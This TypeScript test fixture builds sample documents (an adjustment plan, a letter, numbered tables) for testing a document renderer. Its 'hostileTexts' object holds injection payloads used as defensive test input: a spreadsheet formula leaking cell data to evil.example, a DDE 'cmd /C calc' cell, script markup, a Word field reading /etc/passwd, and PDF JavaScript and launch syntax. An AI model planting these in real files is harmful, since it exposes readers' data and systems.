import type { Document } from './document.ts'

/** Documents for the tests and the benchmark: an ordinary plan, tables of any length, and everything that has ever broken a file. */

export function aPlan(rows = 20): Document {
	return {
		title: 'Adjustment plan',
		subtitle: 'What we agreed, and when we will look at it again',
		lang: 'en',
		reference: 'K7QF-2M9X',
		madeOn: '2026-03-27',
		publisher: 'Example area health and work service',
		note: 'Your employee owns this plan. Share it only with the people they name.',
		footer: 'Questions? Ring the service on 0116 496 0000, Monday to Friday.',
		sections: [
			{
				heading: 'Who this is for',
				blocks: [
					{
						kind: 'rows',
						rows: [
							{ label: 'Job', value: 'Warehouse operative, early shift' },
							{ label: 'Hours in a normal week', value: '37.5' },
							{ label: 'Best way to be in touch', value: ['Phone, in the afternoon', 'Never by letter to the home'] },
							{
								label: 'What is hard at the moment',
								value:
									'Standing for more than 20 minutes.\n\nLifting from below the knee, and anything that means twisting with a load.',
							},
						],
					},
				],
			},
			{
				heading: 'What will change',
				blocks: [
					{
						kind: 'paragraph',
						text: 'Each change has one person who makes it happen. Nothing here needs a diagnosis, and nothing here is for ever: we look at it again on the review date.',
					},
					{
						kind: 'table',
						caption: 'Changes at work',
						columns: ['Change', 'Who does it', 'From', 'How we will know it works'],
						rows: Array.from({ length: rows }, (_, index) => [
							changes[index % changes.length] as string,
							index % 3 === 0 ? 'Shift manager' : 'Facilities',
							`${(index % 28) + 1} April 2026`,
							index % 2 === 0 ? 'A full shift without needing to stop' : 'Asked at each weekly talk, and written down',
						]),
					},
					{
						kind: 'list',
						items: [
							'Talk every Friday for ten minutes.',
							'Stop and change anything that makes things worse.',
							'Keep the plan where both can see it.',
						],
					},
				],
			},
			{
				heading: 'What happens next',
				blocks: [
					{
						kind: 'list',
						ordered: true,
						items: [
							'Both sign.',
							'The manager orders the stool and the trolley.',
							'We meet on 8 May 2026 to look at the plan again.',
						],
					},
					{ kind: 'signatures', names: ['Employee', 'Manager'] },
				],
			},
		],
	}
}

const changes = [
	'Stool at the packing bench',
	'Start at 8 instead of 6 for four weeks',
	'Trolley for anything over 5 kg',
	'Two more breaks of ten minutes',
	'Swap the top-shelf picking with a colleague',
	'Quiet place to sit when it gets loud',
]

/** Text that people, spreadsheets and attackers really type. None of it may break a file, run, or take its line away. */
export const hostileTexts = {
	controls: 'nul\u0000 esc\u001b vt\u000b bell\u0007 del\u007f nel\u0085 c1\u009b',
	noncharacters: 'fffe\ufffe ffff\uffff bom\ufeff plane\u{1ffff} fdd0\ufdd0',
	loneSurrogates: 'high\ud800 low\udc00 end\ud83d',
	bidi: 'abc\u202egnp.exe\u202c \u2066isolated\u2069',
	arabic: 'محمد الأحمد',
	hebrew: 'שלום עולם',
	chinese: '莎拉·史密斯',
	gujarati: 'પ્રિયા પટેલ',
	vietnamese: 'Nguyễn Thị Ánh',
	emoji: 'thanks 👩‍👩‍👧 🏴󠁧󠁢󠁷󠁬󠁳󠁿 👍🏽 ❤️',
	combining: `zalgo${'\u0301\u0316\u0347'.repeat(30)}`,
	formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
	command: "@SUM(1+1)*cmd|' /C calc'!A0",
	markup: '</td></table><script>alert(1)</script> & "quoted" \'single\' ]]> <!-- -->',
	field: '{ INCLUDETEXT "/etc/passwd" } \\* MERGEFORMAT',
	pdfSyntax: ') Tj ET /JS (app.alert(1)) /Launch << >> endobj % \\',
	prototype: '__proto__ constructor toString',
	spaces: '   \t  \n\n\n   ',
	oneWord: 'x'.repeat(10_000),
	manyWords: 'a quiet word '.repeat(770),
	manyLines: Array.from({ length: 300 }, (_, index) => `line ${index + 1}`).join('\n'),
	wide: '字'.repeat(3000),
}

/** Every hostile text in every place that a text can be. */
export function aHostileDocument(text: string): Document {
	return {
		title: `Title ${text}`.slice(0, 300),
		subtitle: text,
		lang: 'en',
		reference: `REF-1 ${text}`,
		note: text,
		footer: text,
		publisher: text,
		sections: [
			{
				heading: `Heading ${text}`,
				blocks: [
					{ kind: 'paragraph', text: `Before the text. ${text} After the text.` },
					{
						kind: 'rows',
						rows: [
							{ label: `Label ${text}`, value: text },
							{ label: 'Several', value: [text, 'second value', text] },
							{ label: 'None', value: [] },
						],
					},
					{ kind: 'list', items: [text, 'plain item'] },
					{ kind: 'list', ordered: true, items: ['plain item', text] },
					{
						kind: 'table',
						caption: `Caption ${text}`,
						columns: ['First', text, 'Third'],
						rows: [['kept', text, 'last cell'], [text, 'kept', ''], ['short row']],
					},
					{ kind: 'signatures', names: [`Name ${text}`] },
				],
			},
			{ heading: 'After everything', blocks: [{ kind: 'paragraph', text: 'The end is reached.' }] },
		],
	}
}

/** A letter: an opening, a subject, a part without a heading and room to sign. */
export function aLetter(): Document {
	return {
		title: 'Your request of 3 November',
		lang: 'en',
		opening: ['Robin Example\nExample Bakery', '23 November 2026', 'Dear Sam Example'],
		sections: [
			{ heading: '', blocks: [{ kind: 'paragraph', text: 'Thank you for your letter.' }] },
			{ heading: 'What happens next', blocks: [{ kind: 'paragraph', text: 'We talk about it on Friday.' }] },
			{
				heading: '',
				blocks: [
					{ kind: 'paragraph', text: 'Yours sincerely' },
					{ kind: 'signatures', names: ['Robin Example'] },
				],
			},
		],
	}
}

/** One table with this many rows and nothing else. */
export function aTableOf(rows: number): Document {
	return {
		title: `A table of ${rows}`,
		lang: 'en',
		sections: [
			{
				heading: 'Rows',
				blocks: [
					{
						kind: 'table',
						caption: 'Numbered rows',
						columns: ['Number', 'Text'],
						rows: Array.from({ length: rows }, (_, index) => [
							`Row ${index + 1}`,
							`Text of row ${index + 1}, which says a little more than its number`,
						]),
					},
				],
			},
		],
	}
}
